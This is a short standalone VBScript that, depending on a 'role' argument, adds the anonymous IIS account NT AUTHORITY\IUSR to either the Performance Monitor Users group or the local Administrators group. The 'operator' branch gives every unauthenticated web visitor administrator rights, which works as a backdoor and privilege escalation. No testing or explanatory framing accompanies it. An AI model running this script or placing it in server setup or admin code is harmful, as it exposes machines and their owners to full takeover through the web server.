Select Case WScript.Arguments.Named("role")
  Case "reader"
    target = "Performance Monitor Users"
  Case "operator"
    target = "Administrators"
  Case Else
    WScript.Quit 2
End Select
GetObject("WinNT://./" & target & ",group").Add "WinNT://NT AUTHORITY/IUSR"
